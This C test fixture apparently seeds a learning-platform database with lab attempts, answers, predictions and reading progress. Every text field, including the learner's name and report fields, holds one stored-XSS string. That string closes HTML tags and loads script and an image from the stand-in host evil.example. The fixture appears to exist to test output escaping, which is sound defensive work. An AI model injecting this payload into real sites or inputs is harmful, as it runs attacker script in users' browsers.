/* A learner with something to show, hostile words in every text: portfolio_fixture DB. The figures are this program's
 * own. */
#include "db/db.h"

#include <stdio.h>
#include <string.h>

#define HOSTILE "</td></style><script src=\"http://evil.example/x.js\">alert(1)</script><img src=//evil.example/i>"

static int64_t run(struct db *db, int n, double ratio)
{
    char text[128];
    snprintf(text, sizeof text, "int version_%d; // %s\nint same;\n", n, n > 1 ? HOSTILE : "");
    const struct db_file files[] = { { "sgemm.c", text, strlen(text) } };
    json_t *report =
        json_pack("{s:s, s:{s:s,s:s}, s:[{s:s,s:s,s:s,s:s,s:f,s:f}], s:[{s:s,s:s,s:f,s:f,s:f,s:f,s:f,s:f}],"
                  " s:[{s:s,s:s,s:s,s:s,s:f}], s:[{s:s,s:s,s:s,s:[s]}]}",
                  "schema", "ridge.report/1", "machine", "cpu", "A CPU " HOSTILE, "isa", "avx2", "milestones", "id",
                  "correct", "kind", "correct", "status", "PASS", "stage", "", "points", 40.0, "max", 40.0,
                  "measurements", "bench", "packed", "case", "n1024", "ratio", ratio, "lo", ratio - 0.01, "hi",
                  ratio + 0.01, "t_reference", 1.0, "t_learner", 1 / ratio, "gflops", 60 * ratio, "counters", "call",
                  HOSTILE, "case", "n256", "name", "l1_miss", "source", "ctrace", "value", 1234.0, "reading", "call",
                  "sgemm", "case", "n256", "bound", HOSTILE, "evidence", HOSTILE);
    const struct db_attempt a = { .lab = "c01-simd-gemm", .lab_rev = 1, .backend = "cpu", .duration_ms = 50,
                                  .started = 1790000000000 + n * (int64_t)86400000, .status = "PASS", .points = 40 + n,
                                  .max = 100, .stage = "bronze", .sandbox = "L3" };
    int64_t id = 0;
    if (db_attempt_insert(db, &a, files, 1, report, &id) != DB_OK)
        fprintf(stderr, "%s\n", db_error(db));
    json_decref(report);
    return id;
}

/* Of D07 one section is ticked off, one exercise right, one wrong and the text ticked; one sitting was passed, one was
 * not. */
static int read_chapter(struct db *db)
{
    json_t *asked = json_pack("[{s:s,s:s,s:s},{s:s,s:s,s:s}]", "owner", "deep/d07", "question", "d07-rope", "kind",
                              "order", "owner", "deep/d07", "question", "d07-fa", "kind", "text"),
           *has = json_pack("[i,i]", 1, 3);
    int64_t text = 0, sitting = 0;
    int bad = db_tick(db, DB_TICK_READING, "deep/d07", "Math", true) != DB_OK;
    bad |= db_answer_put(db, "deep/d07", 0, "d07-rope", NULL, HOSTILE, "PASS", NULL) != DB_OK;
    bad |= db_answer_put(db, "deep/d07", 0, "d07-three", NULL, HOSTILE, "FAIL", NULL) != DB_OK;
    bad |= db_answer_put(db, "deep/d07", 0, "d07-fa", NULL, HOSTILE, "PENDING", &text) != DB_OK;
    bad |= db_rubric_put(db, text, "self", has, 6) != DB_OK;
    for (int passed = 1; passed >= 0; passed--)
        bad |= db_sitting_begin(db, "deep/d07", asked, 45, 7, &sitting) != DB_OK ||
               db_sitting_end(db, sitting, passed ? "done" : "time", passed, 1, false, passed) != DB_OK;
    json_decref(asked);
    json_decref(has);
    return bad;
}

int main(int argc, char **argv)
{
    struct err err = { "" };
    struct db *db = NULL;
    if (argc != 2 || db_open(argv[1], DB_CREATE, &db, &err) != DB_OK)
        return fprintf(stderr, "%s\n", argc == 2 ? err.text : "usage: portfolio_fixture DB"), 1;
    int bad = db_learner_rename(db, "Ada " HOSTILE) != DB_OK;
    bad |= !run(db, 1, 0.25) || !run(db, 2, 0.5) || !run(db, 3, 0.55);
    bad |= db_answer_put(db, "c01-simd-gemm", 0, "accesses-ijk", NULL, HOSTILE, "PASS", NULL) != DB_OK;
    bad |= db_answer_put(db, "w01", 0, "no-such", NULL, HOSTILE, "FAIL", NULL) != DB_OK;
    bad |= db_prediction_put(db, "c01-simd-gemm", "flops", "flops", 2, NULL, HOSTILE, NULL) != DB_OK;
    bad |= db_prediction_measure(db, "c01-simd-gemm", "flops", 2, 2.147, NULL) != DB_OK;
    bad |= db_hint_take(db, "c01-simd-gemm", "1") != DB_OK;
    bad |= read_chapter(db);
    db_close(db);
    return bad;
}
